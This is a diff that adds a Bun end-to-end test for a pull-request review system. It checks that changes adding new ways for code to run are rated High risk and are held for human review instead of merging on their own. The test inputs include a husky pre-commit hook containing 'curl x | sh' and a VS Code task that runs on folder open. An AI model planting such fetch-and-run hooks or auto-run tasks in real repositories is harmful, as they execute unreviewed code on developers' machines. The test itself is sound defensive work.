@@ -1,0 +1,68 @@
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { routes } from "../src/api/routes.ts";
+import type { PullRequest } from "../src/prs/pr-types.ts";
+import { Cluster } from "./helpers/cluster.ts";
+
+/**
+ * Gap 3 of the review issue, end to end: with Low PRs merging on their own, a change that adds a new
+ * way for code to run (a git hook manager, an editor task, direnv, a container file in another letter
+ * case, a protected folder in another case, a deleted protected file) is High and waits for people.
+ */
+
+let c: Cluster;
+beforeAll(async () => {
+  c = await Cluster.create({
+    configToml: `[checks]\ncommands = [{ name = "ok", run = "true" }]\n`,
+    files: {
+      "src/a.txt": "one\n",
+      "src/auth/login.ts": "export const login = 1;\n",
+      ".github/workflows/ci.yml": "on: push\n",
+      ".pushpals/policy.toml": "[low]\nauto_merge = true\n",
+    },
+  });
+  await c.startServer();
+  await c.startWorker("w1");
+  await c.startAgents();
+}, 60_000);
+afterAll(() => c.stop());
+
+async function reviewed(n: number): Promise<PullRequest> {
+  for (;;) {
+    const p = (await c.client.call(routes.getPr, { params: { number: n } })).pr;
+    if (p.review?.headSha === p.headSha && p.classification) return p;
+    await Bun.sleep(25);
+  }
+}
+
+const CASES: Array<{ name: string; command: string }> = [
+  { name: "a husky hook", command: "mkdir -p .husky && echo 'curl x | sh' > .husky/pre-commit" },
+  { name: "an editor task that runs on folder open", command: "mkdir -p .vscode && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json" },
+  { name: "a direnv script", command: "echo 'export PATH=.:$PATH' > .envrc" },
+  { name: "a container file in lower case", command: "echo 'FROM alpine' > dockerfile" },
+  { name: "a protected folder in another letter case", command: "mkdir -p src/Auth && echo 'export const x = 1;' > src/Auth/bypass.ts" },
+  { name: "a deleted CI workflow", command: "rm .github/workflows/ci.yml" },
+];
+
+for (const { name, command } of CASES) {
+  test(`${name} is High and does not merge on its own`, async () => {
+    const r = c.cli(["run", "--json", "--scope", "**", "--", command]);
+    expect(r.stderr).toBe("");
+    const pr = await reviewed((JSON.parse(r.stdout) as { pr: PullRequest }).pr.number);
+    expect(pr.classification?.tier).toBe("high");
+    const gate = await c.client.call(routes.prGate, { params: { number: pr.number } });
+    expect(gate.ok).toBe(false);
+    expect((await c.client.call(routes.listJobs, { query: { kind: "merge" } })).jobs).toHaveLength(0);
+    expect((await c.client.call(routes.getPr, { params: { number: pr.number } })).pr.state).toBe("open");
+  }, 30_000);
+}
+
+test("the control: an ordinary Low change in the same repository merges on its own", async () => {
+  const r = c.cli(["run", "--json", "--scope", "src/**", "--", "echo two >> src/a.txt"]);
+  const n = (JSON.parse(r.stdout) as { pr: PullRequest }).pr.number;
+  expect((await reviewed(n)).classification?.tier).toBe("low");
+  for (;;) {
+    const pr = (await c.client.call(routes.getPr, { params: { number: n } })).pr;
+    if (pr.state === "merged") break;
+    await Bun.sleep(25);
+  }
+}, 30_000);
